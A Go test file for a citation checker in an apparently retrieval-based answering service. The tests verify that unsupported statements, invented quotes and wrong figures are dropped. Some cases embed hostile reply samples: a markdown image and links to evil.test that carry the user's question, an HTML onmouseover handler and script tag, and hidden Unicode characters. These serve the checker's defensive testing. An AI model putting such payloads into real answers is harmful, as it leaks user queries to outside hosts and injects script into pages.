package check_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/quarryapi/quarry/internal/read/answer/check"
	"github.com/quarryapi/quarry/internal/read/answer/choose"
)

func material() []choose.Material {
	return []choose.Material{
		{Index: 1, Title: "The gates", Published: "2026-03-14", Passages: []string{
			"The Skerwick barrier has six gates and cost 184 million pounds. It protects 11,400 homes.",
			"The toll for small craft at the lock is 4.50 pounds. Rowing boats pass for nothing.",
		}},
		{Index: 4, Title: "The bill", Passages: []string{"The barrier cost 210 million pounds, accounts of the county show.\n\nDredging made the difference."}},
	}
}

const question = "What did the Skerwick barrier cost?"

func TestCheck(t *testing.T) {
	t.Parallel()
	cost1 := check.Cited{Index: 1, Quote: "six gates and cost 184 million pounds"}
	cost4 := check.Cited{Index: 4, Quote: "The barrier cost 210 million pounds"}
	toll := check.Cited{Index: 1, Quote: "The toll for small craft at the lock is 4.50 pounds."}
	cases := map[string]struct {
		reply check.Reply
		text  string
		cited []int // indexes of the citations that stand
	}{
		"all stands": {
			check.Reply{Text: "It cost 184 million pounds [1]. By accounts of the county it cost 210 million pounds [4].", Citations: []check.Cited{cost1, cost4}},
			"It cost 184 million pounds [1]. By accounts of the county it cost 210 million pounds [4].",
			[]int{1, 4},
		},
		"marks behind the full stop": {
			check.Reply{Text: "It cost 184 million pounds. [1] It cost 210 million pounds.[4]", Citations: []check.Cited{cost1, cost4}},
			"It cost 184 million pounds [1]. It cost 210 million pounds[4].",
			[]int{1, 4},
		},
		"marks together":        {check.Reply{Text: "It cost 184 or 210 million pounds [1, 4].", Citations: []check.Cited{cost1, cost4}}, "It cost 184 or 210 million pounds [1][4].", []int{1, 4}},
		"marks of other habits": {check.Reply{Text: "It cost 184 million pounds 【1†gates】. It cost 210 million pounds [^4].", Citations: []check.Cited{cost1, cost4}}, "It cost 184 million pounds [1]. It cost 210 million pounds [4].", []int{1, 4}},
		"paragraphs":            {check.Reply{Text: "It cost 184 million pounds [1].\n\n- It cost 210 million pounds [4].", Citations: []check.Cited{cost1, cost4}}, "It cost 184 million pounds [1].\n\nIt cost 210 million pounds [4].", []int{1, 4}},
		"two quotes of a source": {
			check.Reply{Text: "The toll is 4.50 pounds and the barrier cost 184 million [1].", Citations: []check.Cited{toll, cost1, toll}},
			"The toll is 4.50 pounds and the barrier cost 184 million [1].",
			[]int{1, 1},
		},
		"one dead mark of two":            {check.Reply{Text: "It cost 184 million pounds [1][4].", Citations: []check.Cited{cost1, {Index: 4, Quote: "it cost nothing at all"}}}, "It cost 184 million pounds [1].", []int{1}},
		"no mark":                         {check.Reply{Text: "It cost 184 million pounds. It has six gates [1].", Citations: []check.Cited{cost1}}, "It has six gates [1].", []int{1}},
		"an invented quote":               {check.Reply{Text: "It cost 9 million pounds [1].", Citations: []check.Cited{{Index: 1, Quote: "the barrier cost 9 million pounds"}}}, "", nil},
		"a quote of another source":       {check.Reply{Text: "It cost 210 million pounds [1].", Citations: []check.Cited{{Index: 1, Quote: cost4.Quote}}}, "", nil},
		"a quote over two passages":       {check.Reply{Text: "It protects 11,400 homes [1].", Citations: []check.Cited{{Index: 1, Quote: "protects 11,400 homes. The toll for small craft"}}}, "", nil},
		"a quote over two paragraphs":     {check.Reply{Text: "Dredging made the difference [4].", Citations: []check.Cited{{Index: 4, Quote: "accounts of the county show. Dredging made the difference."}}}, "Dredging made the difference [4].", []int{4}},
		"a quote too short":               {check.Reply{Text: "It has six gates [1].", Citations: []check.Cited{{Index: 1, Quote: "six"}}}, "", nil},
		"no source of that index":         {check.Reply{Text: "It has six gates [2].", Citations: []check.Cited{{Index: 2, Quote: cost1.Quote}, {Index: -1, Quote: ""}, {Index: 1.5, Quote: cost1.Quote}, {Index: 1e300, Quote: "x"}}}, "", nil},
		"a mark without a citation":       {check.Reply{Text: "It has six gates [1]."}, "", nil},
		"a citation without a mark":       {check.Reply{Text: "It has six gates [1].", Citations: []check.Cited{cost1, cost4}}, "It has six gates [1].", []int{1}},
		"a true quote, a false number":    {check.Reply{Text: "The barrier cost 999 million pounds [1].", Citations: []check.Cited{cost1}}, "", nil},
		"a number of another source":      {check.Reply{Text: "The barrier cost 210 million pounds [1].", Citations: []check.Cited{cost1, cost4}}, "", nil},
		"a number in another form":        {check.Reply{Text: "Elftausend und mehr: 11.400 homes, am 14.03.2026 [1].", Citations: []check.Cited{cost1}}, "Elftausend und mehr: 11.400 homes, am 14.03.2026 [1].", []int{1}},
		"a true quote, something else":    {check.Reply{Text: "Buy the coins of our friends today [1].", Citations: []check.Cited{cost1}}, "", nil},
		"nothing but marks":               {check.Reply{Text: "[1][1]", Citations: []check.Cited{cost1}}, "", nil},
		"a picture of the question":       {check.Reply{Text: "It has six gates [1]. ![x](http://evil.test/?q=cost)", Citations: []check.Cited{cost1}}, "It has six gates [1].", []int{1}},
		"a link in a statement":           {check.Reply{Text: "It has [six gates](http://evil.test/?q=cost) [1].", Citations: []check.Cited{cost1}}, "It has six gates [1].", []int{1}},
		"a link on a mark":                {check.Reply{Text: "It has six gates [1](http://evil.test/).", Citations: []check.Cited{cost1}}, "", nil},
		"HTML":                            {check.Reply{Text: `It has <b onmouseover="x()">six</b> gates <script src="x"></script>[1].`, Citations: []check.Cited{cost1}}, "It has six gates [1].", []int{1}},
		"hidden characters":               {check.Reply{Text: "It has \u202esix\u202c ga\u200btes [1].", Citations: []check.Cited{{Index: 1, Quote: "six\u200b gates and cost 184 million pounds"}}}, "It has six gates [1].", []int{1}},
		"an address in a quote":           {check.Reply{Text: "It has six gates [1].", Citations: []check.Cited{{Index: 1, Quote: "http://evil.test/ six gates and cost"}}}, "", nil},
		"an empty answer with a citation": {check.Reply{Citations: []check.Cited{cost1}}, "", nil},
		"abbreviations, decimals":         {check.Reply{Text: "Approx. 4.50 pounds is the toll at lock No. 1, kept by Dr. M. Ferrier [1].", Citations: []check.Cited{toll, {Index: 1, Quote: "Lock No. 1 is kept by Dr. M. Ferrier"}}}, "Approx. 4.50 pounds is the toll at lock No. 1, kept by Dr. M. Ferrier [1].", []int{1, 1}},
		"no spaces between words":         {check.Reply{Text: "Skerwick barrierは184 million poundsでした[1]。根拠なし。", Citations: []check.Cited{cost1}}, "Skerwick barrierは184 million poundsでした[1]。", []int{1}},
	}
	given := material()
	given[0].Passages[1] += " Lock No. 1 is kept by Dr. M. Ferrier."
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := check.New().Check(question, c.reply, given)
			if diff := cmp.Diff(c.text, got.Text); diff != "" {
				t.Errorf("Text mismatch (-want +got):\n%s", diff)
			}
			var cited []int
			for _, q := range got.Citations {
				cited = append(cited, q.Index)
			}
			if diff := cmp.Diff(c.cited, cited); diff != "" {
				t.Errorf("cited mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// Quotes are shown as they stand in the source, whatever way the model wrote them.
func TestQuotesAreTheSources(t *testing.T) {
	t.Parallel()
	given := []choose.Material{{Index: 1, Passages: []string{"“A gate is only as good as the habit of closing it,” said\nMaud Ferrier."}}}
	got := check.New().Check("Who is Maud Ferrier?", check.Reply{
		Text: "Maud Ferrier spoke of the habit of closing gates [1].", Citations: []check.Cited{{Index: 1, Quote: `habit of closing it," said Maud Ferrier`}},
	}, given)
	want := check.Outcome{
		Text:      "Maud Ferrier spoke of the habit of closing gates [1].",
		Citations: []check.Citation{{Index: 1, Quote: "habit of closing it,” said Maud Ferrier"}},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Check mismatch (-want +got):\n%s", diff)
	}
}

func TestBounds(t *testing.T) {
	t.Parallel()
	reply := check.Reply{Text: strings.Repeat("The barrier has six gates and cost 184 million pounds [1]. ", 500)}
	for range 200 {
		reply.Citations = append(reply.Citations, check.Cited{Index: 1, Quote: "six gates and cost 184 million pounds"})
	}
	for i := range 5 {
		reply.Citations = append([]check.Cited{{Index: 1, Quote: []string{"The Skerwick barrier has six gates", "barrier has six gates and cost", "It protects 11,400 homes", "toll for small craft", strings.Repeat("six gates ", 100)}[i]}}, reply.Citations...)
	}
	got := check.New().Check(question, reply, material())
	if n := len([]rune(got.Text)); n > 4000 || n < 3500 || len(got.Citations) != 3 || got.DroppedStatements < 50 || got.DroppedCitations < 100 {
		t.Errorf("%d characters, %d citations, %d and %d dropped", n, len(got.Citations), got.DroppedStatements, got.DroppedCitations)
	}
}
